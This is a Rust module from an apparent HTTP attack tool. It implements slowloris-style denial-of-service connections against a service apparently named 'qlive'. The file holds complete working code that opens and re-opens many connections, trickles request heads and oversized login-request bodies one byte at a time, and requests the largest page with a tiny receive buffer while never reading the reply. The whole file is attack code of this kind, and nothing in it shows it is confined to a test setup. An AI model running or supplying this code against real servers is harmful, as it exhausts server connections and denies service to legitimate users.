//! Connections that cost the attacker nothing: heads and bodies that never end, and answers that
//! nobody reads.

use std::sync::Arc;
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::{sleep, timeout};

use crate::attack::{Attack, request};

/// How long an attacker waits before it replaces a connection that the server closed.
const RECONNECT: Duration = Duration::from_secs(1);
/// How often a byte is sent, so that the connection is never idle for long.
const BYTE_INTERVAL: Duration = Duration::from_secs(1);
/// The receive buffer of a client that does not read, in bytes: the least that Linux allows.
const SMALL_BUFFER: u32 = 2_304;

/// What a slow client does after its first bytes.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Pace {
    /// It sends this byte from time to time.
    Sends(u8),
    /// It sends nothing, and reads nothing.
    Stalls,
}

/// The first bytes of a slow connection, and what follows.
type Slow = (String, Pace);

fn slow_head() -> Slow {
    let head = "GET /healthz HTTP/1.1\r\nHost: qlive\r\nX-Slow: ";
    (head.to_owned(), Pace::Sends(b'a'))
}

fn slow_body() -> Slow {
    let whole = request("POST", "qlive_user/login/", "", &" ".repeat(60_000));
    let (head, _) = whole.split_once("\r\n\r\n").unwrap();
    (format!("{head}\r\n\r\n{{"), Pace::Sends(b' '))
}

fn unread_answer(attack: &Attack) -> Slow {
    (request("GET", &attack.largest_page, "", ""), Pace::Stalls)
}

/// Opens this many connections of each slow kind. One that the server closes is not replaced.
pub(crate) fn hold_each_kind(attack: &Arc<Attack>, count: usize) -> JoinSet<()> {
    let kinds = [slow_head(), slow_body(), unread_answer(attack)];
    let mut tasks = JoinSet::new();
    for (first, pace) in kinds {
        for number in 0..count {
            let (attack, first) = (Arc::clone(attack), first.clone());
            tasks.spawn(async move {
                hold_connection(&attack, number, first.as_bytes(), pace).await;
            });
        }
    }
    tasks
}

/// Opens this many connections that send a request head byte by byte.
pub(crate) fn send_slow_heads(attack: &Arc<Attack>, count: usize) -> JoinSet<()> {
    hold_connections(attack, count, slow_head())
}

/// Opens this many connections that announce a body and send it byte by byte.
pub(crate) fn send_slow_bodies(attack: &Arc<Attack>, count: usize) -> JoinSet<()> {
    hold_connections(attack, count, slow_body())
}

/// Opens this many connections that request the largest file and never read it.
pub(crate) fn leave_answers_unread(attack: &Arc<Attack>, count: usize) -> JoinSet<()> {
    hold_connections(attack, count, unread_answer(attack))
}

/// Opens connections and holds them. One that the server closes is opened again.
fn hold_connections(attack: &Arc<Attack>, count: usize, (first, pace): Slow) -> JoinSet<()> {
    let first: Arc<str> = first.into();
    let mut tasks = JoinSet::new();
    for number in 0..count {
        let (attack, first) = (Arc::clone(attack), Arc::clone(&first));
        tasks.spawn(async move {
            // They arrive within half a second, not all at once.
            sleep(Duration::from_micros(
                500_000 * (number as u64) / (count as u64),
            ))
            .await;
            loop {
                hold_connection(&attack, number, first.as_bytes(), pace).await;
                sleep(RECONNECT).await;
            }
        });
    }
    tasks
}

/// Holds one connection until the server closes it.
async fn hold_connection(attack: &Attack, number: usize, first: &[u8], pace: Pace) {
    let buffer = (pace == Pace::Stalls).then_some(SMALL_BUFFER);
    let Ok(mut stream) = attack.connect(number, buffer).await else {
        return;
    };
    if stream.write_all(first).await.is_err() {
        return;
    }
    attack.count_requests(1);
    match pace {
        Pace::Sends(byte) => while send_byte(&mut stream, byte).await {},
        Pace::Stalls => std::future::pending().await,
    }
}

/// Sends a byte after a while. Returns false when the server has answered or closed the connection.
async fn send_byte(stream: &mut TcpStream, byte: u8) -> bool {
    let mut answer = [0; 512];
    match timeout(BYTE_INTERVAL, stream.read(&mut answer)).await {
        Ok(_) => false,
        Err(_) => stream.write_all(&[byte]).await.is_ok(),
    }
}
